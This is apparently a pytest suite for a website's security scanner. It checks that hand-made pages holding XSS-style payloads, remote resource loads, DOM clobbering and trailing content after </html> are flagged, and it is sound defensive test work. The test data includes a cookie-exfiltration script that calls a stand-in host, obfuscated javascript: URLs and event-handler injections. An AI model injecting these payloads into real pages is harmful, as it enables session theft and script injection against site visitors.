"""The audit's security scan (briefing.site.pagescan) on pages made by hand: each hostile class is
caught, the theme's own page is not, and deep nesting is a failure, not a page checked in part."""

from __future__ import annotations

from pathlib import Path

import pytest

from briefing.site.audit import check_links

THEME_SCRIPT = '__md_scope=new URL("/aigb/",location)'
HEAD = (
    '<!doctype html><html><head><link rel="stylesheet" href="/aigb/assets/main.css">'
    '<link rel="canonical" href="https://example.org/aigb/x/">'
    '<script src="/aigb/assets/bundle.js"></script><script>{script}</script>'
    '<script id="__config" type="application/json">{{}}</script></head>'
    '<body><nav><input id="__drawer"></nav><article class="md-content__inner">{body}</article></body></html>'
)


def page(body: str, script: str = THEME_SCRIPT) -> str:
    return HEAD.format(body=body, script=script)


def site_with(tmp_path: Path, body: str, script: str = THEME_SCRIPT) -> Path:
    root = tmp_path / "site"
    (root / "assets").mkdir(parents=True)
    (root / "assets/main.css").write_text("")
    (root / "assets/bundle.js").write_text("")
    (root / "404.html").write_text(page(""), "utf-8")
    (root / "x").mkdir()
    (root / "x/index.html").write_text(page(body, script.replace("/aigb/", "..")).replace('"/aigb/', '"../'), "utf-8")
    (root / "sitemap.xml").write_text(
        '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        "<url><loc>https://example.org/aigb/</loc></url><url><loc>https://example.org/aigb/x/</loc></url></urlset>")
    return root


def test_the_theme_page_passes(tmp_path: Path) -> None:
    assert check_links(site_with(tmp_path, "<p>Plain text.</p>")) == []


CASES = {
    "event handler": ('<h2 id="x" onfocus="alert(1)">Scope</h2>', "event-handler attribute 'onfocus' on <h2>"),
    "javascript url": ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "javascript: URL in <a>"),
    "clobbered config": ('<div id="__config">x</div>', "the id '__config' appears more than once"),
    "theme id in article": ('<form id="__search"></form>', "the theme's id '__search' is used inside the article"),
    "script in article": ("<script>alert(1)</script>", "a <script> inside the article"),
    "remote image": ('<img src="https://elsewhere.example/p.gif">', "<img src> loads from another origin"),
    "protocol-relative image": ('<img src="//elsewhere.example/p.gif">', "<img src> loads from another origin"),
    "remote srcset": ('<img srcset="a.png 1x, https://e.example/b.png 2x">', "<img srcset> loads from another"),
    "remote svg image": ('<svg><image href="https://e.example/i.png"/></svg>', "<image href> loads from another"),
    "css url": ('<p style="background:url(https://e.example/x.png)">x</p>', "CSS loads from another origin"),
    "duplicate id": ('<h2 id="brief-sources">a</h2><h2 id="brief-sources">b</h2>', "'brief-sources' appears more"),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_each_hostile_class_is_caught(tmp_path: Path, name: str) -> None:
    body, expected = CASES[name]
    failures = check_links(site_with(tmp_path, body))
    assert any(f.startswith("x/index.html: ") and expected in f for f in failures), failures


@pytest.mark.parametrize("trailer, expected", [
    ("<p onclick='a()'>y</p>", "event-handler attribute 'onclick' on <p>"),
    ("<img src='https://e.example/x.png'>", "<img src> loads from another origin"),
    ("<a href='javascript:alert(1)'>x</a>", "javascript: URL in <a>"),
    ("<script>alert(1)</script>", "an inline script that is not the theme's"),
    ("<style>p{background:url(https://e.example/x.png)}</style>", "CSS loads from another origin"),
])
def test_what_follows_the_end_of_the_page_is_scanned_too(tmp_path: Path, trailer: str, expected: str) -> None:
    """libxml2 puts what follows </html> in a second top-level element; a browser shows and runs it."""
    root = site_with(tmp_path, "<p>x</p>")
    (root / "x/index.html").write_text((root / "x/index.html").read_text() + trailer)
    failures = check_links(root)
    assert any(f.startswith("x/index.html: ") and expected in f for f in failures), failures


def test_an_inline_script_that_is_not_the_themes_is_caught(tmp_path: Path) -> None:
    failures = check_links(site_with(tmp_path, "<p>x</p>", script="fetch('https://e.example/'+document.cookie)"))
    assert failures == ["x/index.html: an inline script that is not the theme's: \"fetch('https://e.example/'+document.cookie)\""]


def test_a_script_file_that_is_not_the_sites_is_caught(tmp_path: Path) -> None:
    root = site_with(tmp_path, "<p>x</p>")
    text = (root / "x/index.html").read_text().replace("../assets/bundle.js", "https://cdn.example/b.js")
    (root / "x/index.html").write_text(text)
    assert check_links(root) == [
        "x/index.html: a script from another origin: https://cdn.example/b.js",
        "x/index.html: <script src> loads from another origin: https://cdn.example/b.js",
    ]


def test_links_after_deep_nesting_are_not_skipped_silently(tmp_path: Path) -> None:
    deep = "<div>" * 3000 + '<img src="https://e.example/p.gif">' + "</div>" * 3000
    failures = check_links(site_with(tmp_path, deep))
    assert "x/index.html: the page is nested too deeply to audit (Excessive depth in document: 2048)" in failures


def test_moderate_nesting_is_audited_in_full(tmp_path: Path) -> None:
    # libxml2 stops at 256 levels unless told otherwise: the audit lifts that limit.
    deep = "<div>" * 400 + '<img src="https://e.example/p.gif">' + "</div>" * 400
    failures = check_links(site_with(tmp_path, deep))
    assert failures == ["x/index.html: <img src> loads from another origin: https://e.example/p.gif"]
